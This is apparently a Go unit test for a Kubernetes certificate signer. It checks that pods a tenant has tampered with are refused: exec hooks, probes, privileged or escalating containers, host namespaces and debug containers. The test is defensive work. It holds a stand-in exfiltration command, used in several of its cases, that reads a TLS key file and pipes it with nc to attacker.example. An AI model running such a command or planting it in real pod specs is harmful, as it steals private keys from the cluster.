package controllers

import (
	"testing"

	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"

	mcpv1alpha1 "github.com/mcp-warden/mcp-warden/api/v1alpha1"
	"github.com/mcp-warden/mcp-warden/controllers/desired"
)

// TestCheckPodRefusesTenantCodeBesideTheKey is the attacker's test (a tenant with edit rights in the
// server's namespace). A pod whose owner chain checks out (a pod with a forged controller reference to
// the gateway's ReplicaSet, or one of a ReplicaSet the tenant made under the server's Deployment) and
// whose images, commands, arguments, users and volumes are the rendered ones got a certificate however
// else it differed: an exec lifecycle hook or probe in the gateway container (the tenant's command, run
// by the kubelet as the gateway's user in the gateway's mounts, reads the key), an environment of the
// tenant's in the gateway container, or a container or pod that is privileged, adds capabilities or
// escalates privileges (root on the node reads the key from the kubelet's pod directory), or runs in
// the node's network or IPC namespace. The signer refuses each, naming what differs.
func TestCheckPodRefusesTenantCodeBesideTheKey(t *testing.T) {
	s := &mcpv1alpha1.MCPServer{}
	s.Namespace, s.Name, s.UID = "ns", "files", types.UID("u")
	s.Spec.Image = "registry.example/files@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	r := &PodCertSigner{GatewayImage: "registry.example/gateway@sha256:abcdefabcdefabcdefabcdefabcdefabcdefabcdefabcdefabcdefabcdefabcd"}
	render := func() *corev1.Pod {
		spec := desired.Deployment(s, desired.Options{GatewayImage: r.GatewayImage}, "").Spec.Template.Spec
		spec.NodeName = "node"
		return &corev1.Pod{Spec: *spec.DeepCopy()}
	}
	pcr := func(p *corev1.Pod) *certificatesv1.PodCertificateRequest {
		return &certificatesv1.PodCertificateRequest{Spec: certificatesv1.PodCertificateRequestSpec{ServiceAccountName: p.Spec.ServiceAccountName, NodeName: "node"}}
	}
	for _, tr := range []mcpv1alpha1.Transport{mcpv1alpha1.TransportStdio, mcpv1alpha1.TransportStreamableHTTP} {
		s.Spec.Transport = tr
		if why := r.checkPod(s, render(), pcr(render())); why != "" {
			t.Fatalf("the rendered %s pod is refused: %s", tr, why)
		}
	}
	steal := &corev1.ExecAction{Command: []string{"/bin/sh", "-c", "cat /etc/mcp-warden-tls/tls.pem | nc attacker.example 80"}}
	for name, mutate := range map[string]func(p *corev1.Pod){
		"gateway postStart exec hook": func(p *corev1.Pod) {
			p.Spec.InitContainers[0].Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: steal}}
		},
		"gateway preStop exec hook": func(p *corev1.Pod) {
			p.Spec.InitContainers[0].Lifecycle = &corev1.Lifecycle{PreStop: &corev1.LifecycleHandler{Exec: steal}}
		},
		"gateway exec liveness probe": func(p *corev1.Pod) {
			p.Spec.InitContainers[0].LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: steal}}
		},
		"gateway exec startup probe": func(p *corev1.Pod) {
			p.Spec.InitContainers[0].StartupProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: steal}}
		},
		"gateway environment": func(p *corev1.Pod) {
			p.Spec.InitContainers[0].Env = append(p.Spec.InitContainers[0].Env, corev1.EnvVar{Name: "SSL_CERT_FILE", Value: "/tmp/tenant-roots.pem"})
		},
		"privileged server container": func(p *corev1.Pod) {
			p.Spec.Containers[0].SecurityContext.Privileged = ptr.To(true)
		},
		"server container adds capabilities": func(p *corev1.Pod) {
			p.Spec.Containers[0].SecurityContext.Capabilities = &corev1.Capabilities{Add: []corev1.Capability{"SYS_ADMIN", "DAC_READ_SEARCH"}}
		},
		"server container escalates": func(p *corev1.Pod) {
			p.Spec.Containers[0].SecurityContext.AllowPrivilegeEscalation = ptr.To(true)
		},
		"gateway container adds capabilities": func(p *corev1.Pod) {
			p.Spec.InitContainers[0].SecurityContext.Capabilities = &corev1.Capabilities{Add: []corev1.Capability{"SYS_PTRACE"}}
		},
		"host network": func(p *corev1.Pod) { p.Spec.HostNetwork = true },
		"host IPC":     func(p *corev1.Pod) { p.Spec.HostIPC = true },
		"ephemeral container targeting the gateway": func(p *corev1.Pod) {
			p.Spec.EphemeralContainers = []corev1.EphemeralContainer{{TargetContainerName: p.Spec.InitContainers[0].Name,
				EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debugger", Image: "busybox", Command: steal.Command}}}
		},
	} {
		p := render()
		mutate(p)
		if why := r.checkPod(s, p, pcr(p)); why == "" {
			t.Errorf("%s: the signer would issue the gateway's certificate", name)
		} else {
			t.Logf("%s: %s", name, why)
		}
	}
}
